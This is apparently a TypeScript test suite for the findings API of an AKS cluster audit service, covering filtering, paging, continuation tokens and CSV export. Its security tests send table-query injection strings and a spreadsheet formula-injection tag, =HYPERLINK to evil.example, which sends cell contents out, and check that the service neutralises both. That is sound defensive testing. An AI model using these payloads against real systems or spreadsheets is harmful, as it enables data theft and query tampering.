import { sampleFleet, sampleScope } from '../../local/fleet/sample-fleet.ts';
import { subscriptionIds } from '../../local/fleet/tenant.ts';
import type { Estate } from '../../local/simulator/estate.ts';
import { writeList } from '../../src/api/list-text.ts';
import { findingBody } from '../../src/api/operations/findings.ts';
import type { FindingRecord } from '../../src/history/records.ts';
import { kubernetesVersionSupported } from '../../src/rules/kubernetes-version-supported.ts';
import { aCluster } from '../support/a-cluster.ts';
import { aClusterRef } from '../support/a-report-input.ts';
import type { Service } from '../support/a-service.ts';
import { anEstate, aService } from '../support/a-service.ts';
import type { Api, ApiItem } from './an-api.ts';
import { anApi, nextOf } from './an-api.ts';

const { platform, retailProd, financeProd, manufacturing, analytics, sandbox } = subscriptionIds;

/** A week later: sandbox has put its local accounts right, and nobody may look into manufacturing any more. */
function aWeekLater(): Estate {
  const fleet = sampleFleet();
  const clusters = structuredClone(fleet.clusters) as { id: string; properties: Record<string, unknown> }[];
  for (const { id, properties } of clusters) {
    if (id.includes(sandbox)) properties.disableLocalAccounts = true;
  }
  return {
    ...fleet,
    clusters,
    subscriptions: fleet.subscriptions.map((one) =>
      one.id === manufacturing ? { ...one, readable: false } : one,
    ),
  };
}

const aFailingRecord: FindingRecord = {
  ref: aClusterRef('aks-old', 'data'),
  location: 'westeurope',
  rule: kubernetesVersionSupported.id,
  name: kubernetesVersionSupported.name,
  category: 'version',
  severity: 'high',
  status: 'fail',
  message: 'It is out of support.',
  evidence: [{ property: 'properties.currentKubernetesVersion', actual: '1.33.12', expected: 'another' }],
  firstFailedAt: null,
  openSince: null,
  resolvedAt: null,
  regressions: 0,
};

let service: Service;
let api: Api;
let all: readonly ApiItem[];

beforeAll(async () => {
  service = await aService(sampleFleet(), { scope: sampleScope });
  api = anApi(service);
  await service.audit();
  service.later({ days: 7 });
  service.simulator.replaceEstate(aWeekLater());
  await service.audit();
  all = await every('findings?status=fail,unknown,error,notApplicable,resolved&top=1000');
});
afterAll(() => service.close());

/** The findings of all pages. */
async function every(question: string): Promise<ApiItem[]> {
  const found: ApiItem[] = [];
  for (let next: string | undefined = question; next !== undefined;) {
    const { status, json } = await api.get(next);
    expect(status).toBe(200);
    found.push(...json.value);
    next = nextOf(json);
  }
  return found;
}

const keysOf = (findings: readonly ApiItem[]): string[] =>
  findings.map(({ cluster, rule }) => `${cluster} ${rule}`).sort();
const open = ({ status }: ApiItem): boolean => ['fail', 'unknown', 'error'].includes(status);
const isIn =
  (...ids: readonly string[]) =>
  ({ subscription }: ApiItem): boolean =>
    ids.includes(subscription.id);

describe('findings', () => {
  it('are every one of the store', async () => {
    const { Findings } = await service.rows();
    expect(all).toHaveLength(Findings!.length);
    expect(new Set(keysOf(all)).size).toBe(all.length);
  });

  // Beside each filter stands what it means for one finding; every one of them finds some, and not all.
  it.each<[string, (finding: ApiItem) => boolean]>([
    ['', open],
    ['status=fail', ({ status }) => status === 'fail'],
    ['status=unknown,notApplicable', ({ status }) => ['unknown', 'notApplicable'].includes(status)],
    ['status=fail&status=notApplicable', ({ status }) => ['fail', 'notApplicable'].includes(status)],
    ['status=resolved', ({ status }) => status === 'pass'],
    [`subscription=${platform}`, (one) => open(one) && isIn(platform)(one)],
    [`subscription=${platform.toUpperCase()},${sandbox}`, (one) => open(one) && isIn(platform, sandbox)(one)],
    ['managementGroup=contoso-corp', (one) => open(one) && isIn(financeProd, manufacturing, analytics)(one)],
    ['managementGroup=CONTOSO-SANDBOX,contoso-platform', (one) => open(one) && isIn(sandbox, platform)(one)],
    [
      `managementGroup=contoso-landing-zones&subscription=${retailProd},${platform}`,
      (one) => open(one) && isIn(retailProd)(one),
    ],
    ['resourceGroup=RG-Runners', (one) => open(one) && one.resourceGroup === 'rg-runners'],
    ['severity=critical,low', (one) => open(one) && ['critical', 'low'].includes(one.severity)],
    ['category=exposure', (one) => open(one) && one.category === 'exposure'],
    ['rule=AKS007', (one) => open(one) && one.rule === 'AKS007'],
    [
      'rule=aks007,local-accounts-disabled',
      (one) => open(one) && ['AKS007', localAccounts()].includes(one.rule),
    ],
    [
      'owner=platform-engineering@contoso.example,nobody',
      (one) => open(one) && one.owner === 'platform-engineering@contoso.example',
    ],
    ['owner=%22%22', (one) => open(one) && one.owner === null],
    [
      'owner=%22%22,platform-engineering@contoso.example&severity=high',
      (one) =>
        open(one) &&
        one.severity === 'high' &&
        [null, 'platform-engineering@contoso.example'].includes(one.owner),
    ],
    [
      `severity=high&subscription=${retailProd}&category=access,network&status=fail`,
      (one) =>
        one.status === 'fail' &&
        one.severity === 'high' &&
        isIn(retailProd)(one) &&
        ['access', 'network'].includes(one.category),
    ],
    [
      // More comparisons than the table service takes in one question.
      `status=fail,unknown,error,notApplicable&severity=critical,high,medium,low,info&category=tier,access&subscription=${[platform, retailProd, sandbox, analytics].join(',')}`,
      (one) =>
        one.status !== 'pass' &&
        ['tier', 'access'].includes(one.category) &&
        isIn(platform, retailProd, sandbox, analytics)(one),
    ],
  ])('?%s', async (filter, isMeant) => {
    const found = await every(`findings?${filter}`);
    expect(keysOf(found)).toEqual(keysOf(all.filter(isMeant)));
    expect(found.length).toBeGreaterThan(0);
    expect(found.length).toBeLessThan(all.length);
  });
  const localAccounts = () => all.find(({ name }) => name === 'local-accounts-disabled')!.rule;

  it('of one cluster are found by its id in any casing', async () => {
    const { cluster } = all.find(open)!;
    for (const id of [cluster, cluster.toUpperCase(), cluster.toLowerCase()]) {
      const found = await every(`findings?cluster=${encodeURIComponent(id)}`);
      expect(keysOf(found)).toEqual(keysOf(all.filter((one) => open(one) && one.cluster === cluster)));
    }
  });

  it.each(["x' or PartitionKey ne '", "o'brien", '%', "' or true or owner eq '"])(
    'of an owner called %s are none',
    async (owner) => {
      expect(await every(`findings?owner=${encodeURIComponent(owner)}`)).toEqual([]);
      expect(await every(`findings?resourceGroup=${encodeURIComponent(owner)}`)).toEqual([]);
    },
  );

  it('are lost sight of where the newest audit did not read their subscription, and only there', () => {
    const lost = all.filter(({ lostSight }) => lostSight);
    expect(new Set(lost.map(({ subscription }) => subscription.id))).toEqual(new Set([manufacturing]));
    expect(lost).toHaveLength(all.filter(isIn(manufacturing)).length);
  });

  it('that fail carry a fix with the names of their cluster filled in, and no other carries one', () => {
    const fixes = all.filter(({ fix }) => fix?.az !== undefined);
    expect(fixes.length).toBeGreaterThan(0);
    expect(fixes.filter(({ fix }) => /\{(subscription|resourceGroup|cluster)\}/.test(fix!.az!))).toEqual([]);
    expect(all.filter(({ fix, status }) => fix !== null && status !== 'fail')).toEqual([]);
  });
});

test('a fix goes to the version that the verdict named', () => {
  const { ref } = aFailingRecord;
  const body = findingBody(
    { ...aFailingRecord, values: { version: '1.34.9' } },
    { rules: [kubernetesVersionSupported], lost: () => false, today: '2026-11-27' },
  );
  expect(body.fix?.az).toEqual([
    `az aks upgrade --subscription ${ref.subscriptionId} --resource-group ${ref.resourceGroup} --name ${ref.name} --kubernetes-version 1.34.9`,
  ]);
});

describe('the answer', () => {
  it('says which audit it is of, as of when, and what that audit could not see', async () => {
    const { json } = await api.get('findings');
    const latest = await service.runs.latestRun();
    expect(json).toMatchObject({
      run: latest!.id,
      asOf: '2026-11-27T08:00:00.000Z',
      coverage: { subscriptionsFound: 8, read: 6, unreadable: 1, missing: 1, failed: 0 },
    });
    const { notRead } = json.coverage;
    expect(notRead.map(({ subscription }) => subscription).sort()).toEqual(
      [manufacturing, subscriptionIds.payments].sort(),
    );
    expect(notRead.every(({ reason }) => reason !== null)).toBe(true);
  });

  it.each([1, 7, 100])('comes in pages of at most %i, each finding once', async (top) => {
    const wanted = all.filter((one) => one.status === 'fail' && isIn(platform, sandbox)(one));
    const question = `findings?status=fail&subscription=${platform},${sandbox}&top=${top}`;
    const { json } = await api.get(question);
    expect(json.value.length).toBeLessThanOrEqual(top);
    expect(keysOf(await every(question))).toEqual(keysOf(wanted));
  });

  it('links to the next page with the same question and without the key', async () => {
    const { json } = await api.get('findings?status=fail&top=2&code=s3cret');
    const next = new URL(json.nextLink!);
    expect(next.origin + next.pathname).toBe('https://audit.contoso.example/api/findings');
    expect([...next.searchParams.keys()].sort()).toEqual(['continuation', 'status', 'top']);
  });

  it.each<[string, string]>([
    ['a text that is no token of the table service', JSON.stringify('nowhere')],
    ['the empty text', JSON.stringify('')],
    ['a token of JSON that says nothing', JSON.stringify(base64('null'))],
    ['a token without keys', JSON.stringify(base64('{}'))],
    ['a token with a key of another kind', JSON.stringify(base64('{"nextPartitionKey":{}}'))],
    ['a row key of another table', JSON.stringify('8204847999999_20261120T080000000Z-aaaaaa')],
  ])('to a continuation of %s is a problem of the caller', async (_, decoded) => {
    const continuation = Buffer.from(decoded).toString('base64url');
    for (const list of ['findings', 'clusters']) {
      const { status, json } = await api.get(`${list}?continuation=${continuation}`);
      expect([status, json.error.code, json.error.target]).toEqual([
        400,
        'InvalidContinuation',
        'continuation',
      ]);
    }
    expect(api.unexpected).toEqual([]);
  });
});

describe('as CSV', () => {
  it('are all of them in one file, whatever a page holds', async () => {
    const { status, headers, body } = await api.get('findings?status=fail&format=csv&top=1');
    expect([status, headers['content-type']]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(headers['content-disposition']).toBe('attachment; filename="findings.csv"');
    const lines = body!.split('\r\n');
    expect(lines[0]).toMatch(/^subscription,subscriptionName,resourceGroup,cluster,rule,name,status/);
    expect(lines.slice(1).filter((line) => /,AKS\d{3},/.test(line))).toHaveLength(
      all.filter(({ status: is }) => is === 'fail').length,
    );
  });
});

describe('sight', () => {
  const first = '00000000-0000-0000-0000-00000000000a';
  const second = '00000000-0000-0000-0000-00000000000b';
  const inSubscription = (id: string, name: string) =>
    aCluster(
      { enableRBAC: false },
      {
        id: `/subscriptions/${id}/resourceGroups/rg/providers/Microsoft.ContainerService/managedClusters/${name}`,
        name,
      },
    );
  const lostOf = async (of: Service) => {
    const { json } = await anApi(of).get('findings?rule=AKS009');
    const { json: listed } = await anApi(of).get('clusters');
    const clusters = listed.value;
    expect(json.value.map(({ clusterName, lostSight }) => [clusterName, lostSight])).toEqual(
      clusters.map(({ name, lostSight }) => [name, lostSight]),
    );
    return Object.fromEntries(clusters.map(({ name, lostSight }) => [name, lostSight]));
  };
  let moving: Service;
  afterEach(() => moving.close());

  it('is not lost because an id writes its subscription in capitals', async () => {
    moving = await aService(anEstate([inSubscription(first.toUpperCase(), 'a')], [first]));
    await moving.audit();
    expect(await lostOf(moving)).toEqual({ a: false });
  });

  it('stays lost when the subscription is no longer expected at all', async () => {
    const clusters = [inSubscription(first, 'a'), inSubscription(second, 'b')];
    moving = await aService(anEstate(clusters, [first, second]));
    await moving.audit();
    expect(await lostOf(moving)).toEqual({ a: false, b: false });
    moving.simulator.replaceEstate(anEstate(clusters.slice(0, 1), [first]));
    moving.later({ days: 31 });
    expect((await moving.audit()).coverage).toMatchObject({ read: 1, missing: 0 });
    expect(await lostOf(moving)).toEqual({ a: false, b: true });
  });
});

describe('the words of a hostile tag', () => {
  const owner = '=HYPERLINK("https://evil.example?"&A1,"o\'brien")';
  let hostile: Service;
  beforeAll(async () => {
    const tags = { owner };
    hostile = await aService(anEstate([aCluster({ enableRBAC: false }, { tags })]));
    await hostile.audit();
  });
  afterAll(() => hostile.close());

  it('are inert in a spreadsheet', async () => {
    const { body } = await anApi(hostile).get('findings?format=csv');
    expect(body).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1,""o'brien"")",`);
    expect(body).not.toMatch(/(^|,)"?=/m);
  });

  it('find the findings that they stand in, and those alone', async () => {
    const found = async (text: string) =>
      (await anApi(hostile).get(`findings?status=fail&owner=${encodeURIComponent(text)}`)).json;
    expect((await found(writeList([owner]))).value.map(({ name }) => name)).toEqual([
      'kubernetes-rbac-enabled',
    ]);
    // Not quoted, its comma parts two names, and the second one has a quote without an end.
    expect(await found(owner)).toMatchObject({
      status: 400,
      error: { code: 'InvalidQueryParameterValue', target: 'owner' },
    });
  });
});

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}
